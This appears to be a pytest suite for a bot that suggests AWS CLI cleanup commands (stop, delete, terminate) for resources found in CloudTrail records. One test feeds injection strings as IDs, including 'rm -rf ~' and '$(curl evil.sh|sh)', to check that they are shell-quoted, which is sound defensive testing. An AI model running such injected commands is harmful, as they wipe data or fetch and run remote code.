"""The suggested AWS CLI commands: every resource type the parsers produce has correct ones."""

from __future__ import annotations

import re
import shlex
from pathlib import Path
from typing import Any

import pytest

from bot.blocks._format import RESOURCE_LABELS
from bot.blocks.commands import COMMANDS, suggestions
from engine.parsers import PARSERS, Draft
from engine.records import parse_record

PARSERS_DIR = Path(__file__).resolve().parents[3] / "engine" / "parsers"
REGION = "eu-west-1"

# Extracted by reading engine/parsers/*.py (grep resource_type); the tests below keep it honest.
RESOURCE_TYPES = {
    "autoscaling:group",
    "ec2:elastic-ip",
    "ec2:instance",
    "ec2:launch-template",
    "ec2:natgateway",
    "ec2:traffic-mirror-session",
    "ec2:volume",
    "eks:cluster",
    "eks:nodegroup",
    "elasticache:cache-cluster",
    "elasticache:replication-group",
    "elb:load-balancer",
    "emr:cluster",
    "lambda:function",
    "lambda:provisioned-concurrency",
    "opensearch:domain",
    "rds:db-cluster",
    "rds:db-instance",
    "redshift:cluster",
    "sagemaker:endpoint",
    "sagemaker:endpoint-config",
    "sagemaker:notebook-instance",
    # issue 14
    "bedrock:provisioned-throughput",
    "ec2:capacity-reservation",
    "ec2:dedicated-host",
    "ec2:host-reservation",
    "ec2:reserved-instances",
    "ecs:service",
    "ecs:task",
    "ecs:task-definition",
    "rds:reserved-db-instances",
    "sagemaker:training-job",
    "savingsplans:savings-plan",
}

# Parsers that only produce a Draft when the request changes something that costs.
_COSTING_REQUESTS: dict[str, dict[str, Any]] = {
    "ModifyInstanceAttribute": {"instanceType": {"value": "m5.large"}},
    "CreateSavingsPlan": {"commitment": "1.00"},
    "CreateCapacityReservationFleet": {"TotalTargetCapacity": 2},
    "CreateProvisionedModelThroughput": {"modelUnits": 1, "modelId": "amazon.titan-text-lite-v1"},
    "CreateTrainingJob": {"resourceConfig": {"instanceType": "ml.m5.large"}},
    "RegisterTaskDefinition": {"cpu": "256", "memory": "512"},
    "UpdateService": {"desiredCount": 2},
    "SetDesiredCapacity": {"desiredCapacity": 2},
    "IncreaseReplicaCount": {"newReplicaCount": 2},
    "ModifyDBInstance": {"dBInstanceClass": "db.m5.large"},
    "UpdateAutoScalingGroup": {"desiredCapacity": 2},
    "UpdateDomainConfig": {"clusterConfig": {"instanceCount": 2}},
    "UpdateElasticsearchDomainConfig": {"elasticsearchClusterConfig": {"instanceCount": 2}},
    "ModifyCluster": {"numberOfNodes": 2},
    "ResizeCluster": {"numberOfNodes": 2},
    "UpdateNodegroupConfig": {"scalingConfig": {"desiredSize": 2}},
    "ModifyVolume": {"size": 100},
    "ModifyCacheCluster": {"numCacheNodes": 2},
    "ModifyReplicationGroup": {"cacheNodeType": "cache.r6g.large"},
    "CreateEndpointConfig": {"productionVariants": [{"instanceType": "ml.m5.large"}]},
    "CreateLaunchTemplate": {"launchTemplateData": {"instanceType": "m5.large"}},
    "CreateLaunchTemplateVersion": {"launchTemplateData": {"instanceType": "m5.large"}},
}


def _record(source: str, name: str, request: dict[str, Any], response: Any = None) -> Any:
    return parse_record(
        {
            "eventName": name,
            "eventSource": source,
            "eventTime": "2026-11-02T03:04:05Z",
            "awsRegion": REGION,
            "requestParameters": request,
            "responseElements": response or {},
            "serviceEventDetails": {},
        }
    )


def _parsed_types() -> set[str]:
    found = set()
    for (source, name), parser in PARSERS.items():
        draft = parser(_record(source, name, _COSTING_REQUESTS.get(name, {})))
        assert isinstance(draft, Draft), f"{name}: give it a costing request in this test"
        found.add(draft.resource_type)
    return found


def test_the_list_matches_what_every_parser_produces() -> None:
    assert _parsed_types() == RESOURCE_TYPES


def test_the_list_matches_the_parsers_source() -> None:
    pattern = re.compile(r'"([a-z0-9]+:[a-z][a-z0-9-]+)"')
    in_source = {
        match for path in PARSERS_DIR.glob("*.py") for match in pattern.findall(path.read_text())
    }
    assert in_source == RESOURCE_TYPES


@pytest.mark.parametrize("resource_type", sorted(_parsed_types()))
def test_every_parsed_type_has_commands_and_a_label(resource_type: str) -> None:
    assert resource_type in COMMANDS, f"add {resource_type} to bot/blocks/commands.py"
    assert resource_type in RESOURCE_LABELS, f"add {resource_type} to RESOURCE_LABELS"


def test_no_table_entry_is_for_a_type_nothing_produces() -> None:
    assert set(COMMANDS) == RESOURCE_TYPES
    assert set(RESOURCE_LABELS) == RESOURCE_TYPES


ALB = "arn:aws:elasticloadbalancing:eu-west-1:123456789012:loadbalancer/app/web/50dc6c495c0c9188"
R = f"--region {REGION}"

# resource type -> (ids as the parsers store them, [(command, destructive)] in display order)
EXPECTED: dict[str, tuple[list[str], list[tuple[str, bool]]]] = {
    "savingsplans:savings-plan": (
        ["sp-0abc"],
        [(f"aws savingsplans describe-savings-plans --savings-plan-ids sp-0abc {R}", False)],
    ),
    "ec2:reserved-instances": (
        ["ri-0abc"],
        [
            (f"aws ec2 describe-reserved-instances --reserved-instances-ids ri-0abc {R}", False),
            (
                "aws ec2 create-reserved-instances-listing --reserved-instances-id ri-0abc "
                "--instance-count COUNT --price-schedules CurrencyCode=USD,Price=PRICE,Term=MONTHS "
                f"--client-token ri-0abc-listing {R}",
                False,
            ),
        ],
    ),
    "ec2:capacity-reservation": (
        ["cr-0abc", "crf-0def"],
        [
            (f"aws ec2 cancel-capacity-reservation --capacity-reservation-id cr-0abc {R}", False),
            (
                "aws ec2 cancel-capacity-reservation-fleets "
                f"--capacity-reservation-fleet-ids crf-0def {R}",
                False,
            ),
        ],
    ),
    "ecs:service": (
        ["MyCluster/MyService"],
        [
            (
                "aws ecs update-service --cluster MyCluster --service MyService "
                f"--desired-count 0 {R}",
                False,
            ),
            (f"aws ecs delete-service --cluster MyCluster --service MyService --force {R}", True),
        ],
    ),
    "ecs:task": (
        ["arn:aws:ecs:eu-west-1:123456789012:task/default/0a1b"],
        [
            (
                "aws ecs stop-task --cluster default "
                f"--task arn:aws:ecs:eu-west-1:123456789012:task/default/0a1b {R}",
                False,
            ),
        ],
    ),
    "ec2:host-reservation": (
        ["hr-0abc"],
        [(f"aws ec2 describe-host-reservations --host-reservation-id-set hr-0abc {R}", False)],
    ),
    "rds:reserved-db-instances": (
        ["my-ri"],
        [(f"aws rds describe-reserved-db-instances --reserved-db-instance-id my-ri {R}", False)],
    ),
    "bedrock:provisioned-throughput": (
        ["arn:aws:bedrock:eu-west-1:123456789012:provisioned-model/abc"],
        [
            (
                "aws bedrock delete-provisioned-model-throughput --provisioned-model-id "
                f"arn:aws:bedrock:eu-west-1:123456789012:provisioned-model/abc {R}",
                True,
            )
        ],
    ),
    "sagemaker:training-job": (
        ["train-1"],
        [(f"aws sagemaker stop-training-job --training-job-name train-1 {R}", False)],
    ),
    "ecs:task-definition": (
        ["web:3"],
        [(f"aws ecs deregister-task-definition --task-definition web:3 {R}", False)],
    ),
    "ec2:dedicated-host": (
        ["h-0abc", "h-0def"],
        [(f"aws ec2 release-hosts --host-ids h-0abc h-0def {R}", True)],
    ),
    "ec2:instance": (
        ["i-0abc", "i-0def"],
        [
            (f"aws ec2 stop-instances --instance-ids i-0abc i-0def {R}", False),
            (f"aws ec2 terminate-instances --instance-ids i-0abc i-0def {R}", True),
        ],
    ),
    "ec2:volume": (
        ["vol-0abc"],
        [
            (f"aws ec2 create-snapshot --volume-id vol-0abc {R}", False),
            (f"aws ec2 delete-volume --volume-id vol-0abc {R}", True),
        ],
    ),
    "ec2:natgateway": (
        ["nat-0abc"],
        [(f"aws ec2 delete-nat-gateway --nat-gateway-id nat-0abc {R}", True)],
    ),
    "ec2:elastic-ip": (
        ["eipalloc-0abc", "203.0.113.7"],
        [(f"aws ec2 release-address --allocation-id eipalloc-0abc {R}", True)],
    ),
    "rds:db-instance": (
        ["orders-db"],
        [
            (f"aws rds stop-db-instance --db-instance-identifier orders-db {R}", False),
            (
                "aws rds delete-db-instance --db-instance-identifier orders-db "
                f"--final-db-snapshot-identifier orders-db-final {R}",
                True,
            ),
        ],
    ),
    "rds:db-cluster": (
        ["orders-aurora"],
        [
            (f"aws rds stop-db-cluster --db-cluster-identifier orders-aurora {R}", False),
            (
                "aws rds delete-db-cluster --db-cluster-identifier orders-aurora "
                f"--final-db-snapshot-identifier orders-aurora-final {R}",
                True,
            ),
        ],
    ),
    "lambda:function": (
        ["thumbnailer"],
        [
            (
                "aws lambda put-function-concurrency --function-name thumbnailer "
                f"--reserved-concurrent-executions 0 {R}",
                False,
            ),
            (f"aws lambda delete-function --function-name thumbnailer {R}", True),
        ],
    ),
    "lambda:provisioned-concurrency": (
        ["thumbnailer:prod"],
        [
            (
                "aws lambda delete-provisioned-concurrency-config --function-name thumbnailer "
                f"--qualifier prod {R}",
                False,
            )
        ],
    ),
    "autoscaling:group": (
        ["web-asg"],
        [
            (
                "aws autoscaling update-auto-scaling-group --auto-scaling-group-name web-asg "
                f"--min-size 0 --desired-capacity 0 {R}",
                False,
            ),
            (
                "aws autoscaling delete-auto-scaling-group --auto-scaling-group-name web-asg "
                f"--force-delete {R}",
                True,
            ),
        ],
    ),
    "eks:cluster": (["prod"], [(f"aws eks delete-cluster --name prod {R}", True)]),
    "eks:nodegroup": (
        ["gpu-nodes"],
        [
            (f"aws eks list-clusters {R}", False),
            (
                "aws eks update-nodegroup-config --cluster-name CLUSTER_NAME --nodegroup-name "
                f"gpu-nodes --scaling-config minSize=0,desiredSize=0 {R}",
                False,
            ),
            (
                "aws eks delete-nodegroup --cluster-name CLUSTER_NAME --nodegroup-name "
                f"gpu-nodes {R}",
                True,
            ),
        ],
    ),
    "redshift:cluster": (
        ["analytics"],
        [
            (f"aws redshift pause-cluster --cluster-identifier analytics {R}", False),
            (
                "aws redshift delete-cluster --cluster-identifier analytics "
                f"--final-cluster-snapshot-identifier analytics-final {R}",
                True,
            ),
        ],
    ),
    "elasticache:cache-cluster": (
        ["sessions"],
        [
            (
                "aws elasticache delete-cache-cluster --cache-cluster-id sessions "
                f"--final-snapshot-identifier sessions-final {R}",
                True,
            )
        ],
    ),
    "elasticache:replication-group": (
        ["cache-rg"],
        [
            (
                "aws elasticache delete-replication-group --replication-group-id cache-rg "
                f"--final-snapshot-identifier cache-rg-final {R}",
                True,
            )
        ],
    ),
    "sagemaker:notebook-instance": (
        ["research-nb"],
        [
            (
                f"aws sagemaker stop-notebook-instance --notebook-instance-name research-nb {R}",
                False,
            ),
            (
                f"aws sagemaker delete-notebook-instance --notebook-instance-name research-nb {R}",
                True,
            ),
        ],
    ),
    "sagemaker:endpoint": (
        ["llm-endpoint"],
        [(f"aws sagemaker delete-endpoint --endpoint-name llm-endpoint {R}", True)],
    ),
    "sagemaker:endpoint-config": (
        ["llm-config"],
        [(f"aws sagemaker delete-endpoint-config --endpoint-config-name llm-config {R}", True)],
    ),
    "ec2:traffic-mirror-session": (
        ["tms-0abc"],
        [(f"aws ec2 delete-traffic-mirror-session --traffic-mirror-session-id tms-0abc {R}", True)],
    ),
    "ec2:launch-template": (
        ["lt-0abc", "web-template"],
        [(f"aws ec2 delete-launch-template --launch-template-id lt-0abc {R}", True)],
    ),
    "emr:cluster": (
        ["j-2AXXXXXXGAPLF"],
        [(f"aws emr terminate-clusters --cluster-ids j-2AXXXXXXGAPLF {R}", True)],
    ),
    "opensearch:domain": (
        ["logs"],
        [(f"aws opensearch delete-domain --domain-name logs {R}", True)],
    ),
    "elb:load-balancer": (
        [ALB, "web"],
        [(f"aws elbv2 delete-load-balancer --load-balancer-arn {ALB} {R}", True)],
    ),
}


def test_every_type_has_an_expectation() -> None:
    assert set(EXPECTED) == RESOURCE_TYPES


@pytest.mark.parametrize("resource_type", sorted(EXPECTED))
def test_commands_name_the_real_ids_and_the_region(resource_type: str) -> None:
    ids, expected = EXPECTED[resource_type]
    found = suggestions(resource_type, ids, REGION)
    assert [(s.command, s.destructive) for s in found] == expected
    assert all(s.hidden == 0 for s in found)
    for suggestion in found:
        assert suggestion.command is not None
        for line in suggestion.command.splitlines():
            assert line.startswith("aws ") and line.endswith(f" --region {REGION}")


@pytest.mark.parametrize("resource_type", sorted(EXPECTED))
def test_safe_commands_come_before_destructive_ones(resource_type: str) -> None:
    flags = [s.destructive for s in suggestions(resource_type, EXPECTED[resource_type][0], REGION)]
    assert flags == sorted(flags)


@pytest.mark.parametrize("resource_type", sorted(EXPECTED))
def test_destructive_recipes_say_what_they_remove(resource_type: str) -> None:
    for recipe in COMMANDS[resource_type]:
        verbs = ("Delete", "Terminate", "Release")
        assert recipe.destructive == recipe.label.startswith(verbs), recipe.label


def test_forty_instances_make_one_command_with_the_first_twenty() -> None:
    ids = [f"i-{n:017x}" for n in range(40)]
    stop, terminate = suggestions("ec2:instance", ids, REGION)
    assert stop.command == f"aws ec2 stop-instances --instance-ids {' '.join(ids[:20])} {R}"
    assert (stop.hidden, terminate.hidden) == (20, 20)


def test_one_id_a_line_commands_stop_at_twenty_lines() -> None:
    snapshot, delete = suggestions("ec2:volume", [f"vol-{n:017x}" for n in range(500)], REGION)
    assert delete.command is not None
    assert len(delete.command.splitlines()) == 20
    assert delete.hidden == 480


def test_long_ids_stop_at_the_size_budget_but_always_show_one() -> None:
    ids = [f"i-{n:05d}" + "x" * 1000 for n in range(10)]
    found = suggestions("ec2:instance", ids, REGION, budget=2400)
    assert all(s.command is not None and ids[0] in s.command for s in found)
    assert all(s.hidden == 8 for s in found)
    (tiny,) = suggestions("eks:cluster", ids[:1], REGION, budget=10)
    assert tiny.command is not None and ids[0] in tiny.command


@pytest.mark.parametrize("hostile", ["i-1; rm -rf ~", "$(curl evil.sh|sh)", "a'b\"c`d` e", "x\ny"])
def test_ids_and_region_are_shell_quoted(hostile: str) -> None:
    (stop, _) = suggestions("ec2:instance", [hostile], hostile)
    assert stop.command is not None
    words = shlex.split(stop.command)
    assert words[4] == hostile
    assert words[-2:] == ["--region", hostile]


@pytest.mark.parametrize(
    ("resource_id", "function", "qualifier"),
    [
        ("thumbnailer:prod", "thumbnailer", "prod"),
        ("thumbnailer:7", "thumbnailer", "7"),
        (
            "arn:aws:lambda:eu-west-1:123:function:thumbnailer:live",
            "arn:aws:lambda:eu-west-1:123:function:thumbnailer",
            "live",
        ),
        ("123:function:thumbnailer:live", "123:function:thumbnailer", "live"),
        ("thumbnailer", "thumbnailer", "QUALIFIER"),
        (
            "arn:aws:lambda:eu-west-1:123:function:thumbnailer",
            "arn:aws:lambda:eu-west-1:123:function:thumbnailer",
            "QUALIFIER",
        ),
    ],
)
def test_provisioned_concurrency_ids_split_into_function_and_qualifier(
    resource_id: str, function: str, qualifier: str
) -> None:
    (found,) = suggestions("lambda:provisioned-concurrency", [resource_id], REGION)
    assert found.command is not None
    words = shlex.split(found.command)
    assert words[words.index("--function-name") + 1] == function
    assert words[words.index("--qualifier") + 1] == qualifier


def test_a_cluster_in_the_node_group_id_is_used_and_needs_no_lookup() -> None:
    found = suggestions("eks:nodegroup", ["prod/gpu-nodes"], REGION)
    assert [s.command for s in found] == [
        "aws eks update-nodegroup-config --cluster-name prod --nodegroup-name gpu-nodes "
        f"--scaling-config minSize=0,desiredSize=0 {R}",
        f"aws eks delete-nodegroup --cluster-name prod --nodegroup-name gpu-nodes {R}",
    ]


@pytest.mark.parametrize(
    ("resource_type", "ids", "commands"),
    [
        (
            "ec2:elastic-ip",
            ["203.0.113.7"],
            [f"aws ec2 release-address --public-ip 203.0.113.7 {R}"],
        ),
        (
            "elb:load-balancer",
            ["web"],
            [f"aws elb delete-load-balancer --load-balancer-name web {R}"],
        ),
        (
            "emr:cluster",
            ["nightly-etl"],
            [f"aws emr list-clusters --active {R}"],
        ),
        (
            "ec2:instance",
            ["sir-abc123"],
            [
                f"aws ec2 cancel-spot-instance-requests --spot-instance-request-ids sir-abc123 {R}",
                "aws ec2 describe-spot-instance-requests --spot-instance-request-ids sir-abc123 "
                f"--query 'SpotInstanceRequests[].InstanceId' --output text {R}",
            ],
        ),
        (
            "ec2:instance",
            ["fleet-abc123"],
            [f"aws ec2 delete-fleets --fleet-ids fleet-abc123 --terminate-instances {R}"],
        ),
    ],
)
def test_id_shapes_pick_the_right_command(
    resource_type: str, ids: list[str], commands: list[str]
) -> None:
    assert [s.command for s in suggestions(resource_type, ids, REGION)] == commands


def test_an_unknown_type_gets_the_console_line() -> None:
    (found,) = suggestions("gamelift:fleet", ["fleet-1"], REGION)
    assert found.command is None
    assert "console" in found.label and REGION in found.label


def test_a_known_type_without_ids_gets_the_console_line() -> None:
    (found,) = suggestions("rds:db-instance", [], REGION)
    assert found.command is None
    assert "no resource id" in found.label


# The ids exactly as the parsers build them from a record, straight into the commands.
PARSED: list[tuple[str, str, dict[str, Any], Any, list[str]]] = [
    (
        "lambda.amazonaws.com",
        "PutProvisionedConcurrencyConfig",
        {"functionName": "thumbnailer", "qualifier": "prod", "provisionedConcurrentExecutions": 50},
        None,
        ["--function-name thumbnailer --qualifier prod"],
    ),
    (
        "eks.amazonaws.com",
        "CreateNodegroup",
        {"name": "prod", "nodegroupName": "gpu-nodes"},  # how CloudTrail logs the cluster
        None,
        ["--cluster-name prod --nodegroup-name gpu-nodes"],
    ),
    (
        "eks.amazonaws.com",
        "CreateNodegroup",
        {"clusterName": "prod", "nodegroupName": "gpu-nodes"},
        None,
        ["--cluster-name prod --nodegroup-name gpu-nodes"],
    ),
    (
        "eks.amazonaws.com",
        "CreateNodegroup",
        {"nodegroupName": "gpu-nodes"},  # no cluster anywhere: the lookup and the placeholder
        None,
        ["aws eks list-clusters", "--cluster-name CLUSTER_NAME --nodegroup-name gpu-nodes"],
    ),
    (
        "ec2.amazonaws.com",
        "AllocateAddress",
        {},
        {"allocationId": "eipalloc-0abc", "publicIp": "203.0.113.7"},
        ["--allocation-id eipalloc-0abc"],
    ),
    (
        "elasticloadbalancing.amazonaws.com",
        "CreateLoadBalancer",
        {"name": "web", "type": "application"},
        {"loadBalancers": [{"loadBalancerArn": ALB}]},
        [f"--load-balancer-arn {ALB}"],
    ),
    (
        "elasticmapreduce.amazonaws.com",
        "RunJobFlow",
        {"name": "nightly-etl"},
        {"jobFlowId": "j-2AXXXXXXGAPLF"},
        ["--cluster-ids j-2AXXXXXXGAPLF"],
    ),
]


@pytest.mark.parametrize(("source", "name", "request_", "response", "fragments"), PARSED)
def test_commands_read_the_ids_the_parsers_build(
    source: str, name: str, request_: dict[str, Any], response: Any, fragments: list[str]
) -> None:
    draft = PARSERS[(source, name)](_record(source, name, request_, response))
    assert isinstance(draft, Draft)
    found = suggestions(draft.resource_type, draft.resource_ids, REGION, details=draft.details)
    commands = "\n".join(s.command or "" for s in found)
    for fragment in fragments:
        assert fragment in commands
    assert ("CLUSTER_NAME" in commands) == ("list-clusters" in commands)
